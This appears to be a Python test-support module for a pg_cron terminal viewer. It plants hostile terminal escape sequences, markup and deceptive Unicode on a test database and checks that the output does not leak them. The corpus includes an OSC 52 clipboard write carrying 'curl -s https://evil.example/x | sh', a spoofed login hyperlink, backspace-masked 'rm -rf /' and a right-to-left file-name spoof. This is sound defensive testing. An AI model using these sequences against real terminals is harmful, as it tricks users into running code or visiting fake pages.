"""Hostile text, as whoever may schedule a job can write it: names, schedule tails, commands,
run messages, role and database names.

Every control sequence is one a real terminal acts on (xterm, VTE, kitty, tmux): clearing the
screen, asking the terminal to type an answer back (DSR, DECRQSS, XTGETTCAP), hyperlinks,
clipboard writes, window titles, the end of bracketed paste. Each is followed by a canary
word of its own, so a raw leak is found even where the sequence itself looks like one the
application writes (SGR colours): `leaks()` looks for sequence + canary in the raw output.

Markup fragments are Rich's and Textual's own syntax (tags, closing tags, actions, links,
theme variables), as a job name like `rsync [/data] nightly` holds them by accident.
"""

from __future__ import annotations

import base64
import re
import threading
import unicodedata
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

from psycopg import sql

if TYPE_CHECKING:
    from tests.conftest import Cluster

#: 31 February: valid for pg_cron, never fires, so the jobs stay still.
NEVER = "0 0 31 2 *"

#: What a malicious clipboard write would put there: a command line to paste into a shell.
CLIPBOARD_PAYLOAD = "curl -s https://evil.example/x | sh\n"
_B64 = base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode()

#: (label, raw sequence). The canary `Zq<n>` follows each in the corpus texts.
SEQUENCES: list[tuple[str, str]] = [
    ("ED clear screen", "\x1b[2J\x1b[H"),
    ("SGR blink red", "\x1b[5;31m"),
    ("DSR cursor report (the terminal types an answer)", "\x1b[6n"),
    ("C1 CSI", "\x9b2J"),
    ("OSC 8 hyperlink", "\x1b]8;;https://evil.example/login\x1b\\click here\x1b]8;;\x1b\\"),
    ("OSC 52 clipboard write (BEL)", f"\x1b]52;c;{_B64}\x07"),
    ("OSC 52 clipboard write (ST)", f"\x1b]52;c;{_B64}\x1b\\"),
    ("C1 OSC 52", f"\x9d52;c;{_B64}\x9c"),
    ("OSC 0 window title", "\x1b]0;root@prod: all good\x07"),
    ("bracketed paste end", "\x1b[201~"),
    ("DCS XTGETTCAP", "\x1bP+q544e\x1b\\"),
    ("DECRQSS", "\x1bP$qm\x1b\\"),
    ("BEL", "\x07"),
    ("backspaces over text", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08"),
    ("carriage return", "succeeded\r"),
    ("vertical tab, form feed, DEL", "\x0b\x0c\x7f"),
    ("ESC c full reset", "\x1bc"),
]
CANARIES = [f"Zq{i}" for i in range(len(SEQUENCES))]
CONTROL = [seq + canary for (_, seq), canary in zip(SEQUENCES, CANARIES)]

MARKUP = [
    "rsync [/data] nightly",
    "[b]bold[/b]",
    "[/]",
    "[@click=app.quit]x",
    "[@click=app.exit]quit[/]",
    "[link=https://evil.example]docs[/link]",
    "[bold red on white]ALERT",
    "[$accent]theme",
    "\\[escaped] and [/b] and [",
    "array[1:2] := x[i]",
]

UNICODE = [
    "\u202egpj.exe",  # right-to-left override: shows as exe.jpg
    "\u2066isolated\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "mark\u200e\u200f\u061cs",
    "daily\u200bbackup",  # looks like dailybackup
    "zw\u200c\u200dj\u2060\ufeffoiners",
    "tags\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",  # invisible ASCII
    "soft\u00adhyphen and hangul\u3164filler",
    "Z\u0335\u0321\u0327\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo",
    "caf\u0065\u0301 vs caf\u00e9",
    "夜間バックアップ",
    "🧹 vacuum 🗄️ 👨‍👩‍👧",
    "tab\there\tand\tthere",
    "line one\nline two\n[b]line three",
]

LONG = "x" * 10_000


def texts() -> list[str]:
    """Every hostile piece, one a string."""
    return CONTROL + MARKUP + UNICODE + [LONG]


def job_names(tag: str) -> list[str]:
    """Names for jobs: each piece, made unique by `tag` (a name is unique per role)."""
    return [f"{tag}-{i} {piece}" for i, piece in enumerate(texts())]


def mixed(i: int) -> str:
    """A short text that holds a control sequence, a markup fragment and a Unicode trap."""
    return CONTROL[i % len(CONTROL)] + MARKUP[i % len(MARKUP)] + UNICODE[i % len(UNICODE)]


def identifier(i: int, unique: str) -> str:
    """A role or database name: sequence `i` with its canary, markup, bidi and zero-width
    characters, then `unique` (PostgreSQL keeps the first 63 bytes of a name)."""
    name = f"{SEQUENCES[i][1]}{CANARIES[i]}[b]\u202e\u200b{unique}"
    assert len(name.encode()) <= 63, name
    return name


def dollar(text: str) -> str:
    """`text` as an SQL string constant that needs no escaping of its own."""
    assert "$h$" not in text
    return f"$h${text}$h$"


# -- what may reach a terminal -------------------------------------------------------------

#: Sequences a Textual app writes by itself: SGR, cursor moves, a few private modes, the
#: pointer's shape (OSC 22), and OSC 52 when it copies. Anything else after an ESC came
#: from somewhere else.
_OWN = re.compile(
    r"\x1b\[[0-9;:]*m"
    r"|\x1b\[\d+;\d+H|\x1b\[\d*[ABCDGK]"
    r"|\x1b\[\?(?:7|25|1049|1000|1002|1003|1004|1006|1015|2004|2026|2048)[hl]"
    r"|\x1b\[\?(?:2026|2048)\$p"  # asks whether the terminal syncs, reports resizes
    r"|\x1b\[\?u|\x1b\[>\d+u|\x1b\[<u|\x1b\[=\d+;\d+u"  # the kitty keyboard protocol
    r"|\x1b\]52;c;[A-Za-z0-9+/=]*\x07"
    r"|\x1b\]22;[a-z-]*\x07"  # the mouse pointer's shape
    r"|\x1b7|\x1b8"
)
#: Characters that must never reach the terminal as they are.
_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x0d\x0e-\x1a\x1c-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2069\ufeff\U000e0000-\U000e007f\u00ad\u3164]"
)


def leaks(output: str, *, allow_escapes: bool) -> list[str]:
    """What in `output` (decoded as the terminal decodes it) came raw from the corpus.

    With `allow_escapes` (a TUI's output), ESC is allowed only at the start of the
    application's own sequences, OSC 52 only with a payload free of control characters and
    unlike the corpus's own; without (a subcommand's output), no ESC at all."""
    found = [f"raw {label}" for (label, seq), canary in zip(SEQUENCES, CANARIES)
             if seq + canary in output]
    rest = output
    if allow_escapes:
        rest = rest.replace("\r\n", "\n")  # a terminal's line discipline writes \r\n
        for match in re.finditer(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", output):
            copied = base64.b64decode(match.group(1)).decode("utf-8", "replace")
            if copied == CLIPBOARD_PAYLOAD or _FORBIDDEN.search(copied) or "\x1b" in copied:
                found.append(f"clipboard written with {copied[:60]!r}")
        rest = _OWN.sub("", rest)
    for match in re.finditer(r"\x1b.{0,12}", rest, re.S):
        found.append(f"ESC {match.group(0)!r}")
    for match in _FORBIDDEN.finditer(rest):
        start = max(match.start() - 20, 0)
        found.append(f"{unicodedata.name(match.group(0), hex(ord(match.group(0))))} in "
                     f"{rest[start:match.end() + 20]!r}")
    return found[:20]


# -- on a real cluster ------------------------------------------------------------------

#: What the hostile endpoint answers: control sequences and markup, a line each.
ANSWER = ("\n".join(CONTROL[:8]) + "\n" + "\n".join(MARKUP)).encode()


class HostileHandler(BaseHTTPRequestHandler):
    """An HTTP job's endpoint that answers with the corpus."""

    def log_message(self, *args: object) -> None:
        return

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; charset=utf-8")
        self.send_header("Content-Length", str(len(ANSWER)))
        self.end_headers()
        self.wfile.write(ANSWER)

    do_GET = do_POST = _answer  # noqa: N815


@dataclass
class Corpus:
    """What make_corpus made: every name as the server stores it."""

    tag: str
    role: str
    database: str
    jobs: dict[str, int] = field(default_factory=dict)  # name (as stored) -> jobid
    names: list[str] = field(default_factory=list)  # the corpus's jobs, in its order
    failing: str = ""  # a job whose command raises the corpus
    owned: str = ""  # a job of the hostile role in the hostile database
    http: str = ""  # a job calling the hostile endpoint


def make_corpus(cluster: Cluster, endpoint: str) -> Corpus:
    """On the real cluster: a hostile role and database, one job per corpus text (its name,
    schedule tail and command), a job of that role in that database, an HTTP job calling
    `endpoint`, and a failed run of each job whose message is hostile."""
    tag = f"hz-{uuid.uuid4().hex[:8]}"
    # An OSC title write for the role, a screen clear for the database.
    corpus = Corpus(tag, role=identifier(8, tag), database=identifier(0, tag))
    with cluster.connect() as conn:
        conn.execute(sql.SQL("create role {} login").format(sql.Identifier(corpus.role)))
        conn.execute(sql.SQL("create database {}").format(sql.Identifier(corpus.database)))

        def schedule(name: str, command: str, tail: str, *, database: str | None = None,
                     username: str | None = None) -> str:
            if database is None:
                jobid = conn.execute("select cron.schedule(%s, %s, %s)",
                                     [name, f"{NEVER} {tail}", command]).fetchone()[0]
            else:
                jobid = conn.execute(
                    "select cron.schedule_in_database(%s, %s, %s, %s, %s)",
                    [name, f"{NEVER} {tail}", command, database, username]).fetchone()[0]
            # cron.job.jobname is of type name: PostgreSQL keeps its first 63 bytes.
            stored = conn.execute("select jobname from cron.job where jobid = %s",
                                  [jobid]).fetchone()[0]
            corpus.jobs[stored] = jobid
            return stored

        for i, (name, piece) in enumerate(zip(job_names(tag), texts())):
            tail = CONTROL[i % len(CONTROL)] + MARKUP[i % 10]
            if i % 2:  # fails with the corpus as its message
                command = (f"do $d$ begin raise exception '%', {dollar(piece)}; "
                           f"end $d$ -- {tag}")
            else:
                command = f"select {dollar(piece)} as hostile -- {tag}"
            corpus.names.append(schedule(name, command, tail))
        corpus.failing = corpus.names[5]  # raises OSC 52 + its canary
        corpus.owned = schedule(
            f"{tag}-owned {mixed(3)}", f"do $d$ begin raise exception '%', "
            f"{dollar(mixed(4))}; end $d$ -- {tag}",
            mixed(5), database=corpus.database, username=corpus.role)
        corpus.http = schedule(
            f"{tag}-http {mixed(6)}",
            f"select net.http_post(url := '{endpoint}/hook', "
            f"body := jsonb_build_object('note', {dollar(mixed(7))}), "
            f"params := jsonb_build_object('q', {dollar(mixed(8))})"
            f") -- {tag}", mixed(9))
        # Runs with the corpus as their messages, as the scheduler writes them.
        for i, (name, jobid) in enumerate(corpus.jobs.items()):
            conn.execute(
                "insert into cron.job_run_details (jobid, runid, job_pid, database, username,"
                " command, status, return_message, start_time, end_time) values (%s,"
                " nextval('cron.runid_seq'), 4242, %s, %s, %s, 'failed', %s, now(), now())",
                [jobid, corpus.database, corpus.role, name, mixed(i)
                 + texts()[i % len(texts())]])
    return corpus


def drop_corpus(cluster: Cluster, corpus: Corpus) -> None:
    with cluster.connect() as conn:
        ids = list(corpus.jobs.values())
        # A job whose role is gone stops the scheduler: the jobs go first.
        conn.execute("select cron.unschedule(jobid) from cron.job where jobid = any(%s)", [ids])
        conn.execute("delete from cron.job_run_details where jobid = any(%s)", [ids])
        conn.execute(sql.SQL("drop database if exists {} with (force)").format(
            sql.Identifier(corpus.database)))
        conn.execute(sql.SQL("drop owned by {}").format(sql.Identifier(corpus.role)))
        conn.execute(sql.SQL("drop role {}").format(sql.Identifier(corpus.role)))



@contextmanager
def endpoint() -> Iterator[str]:
    """A local HTTP server answering every request with ANSWER."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileHandler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
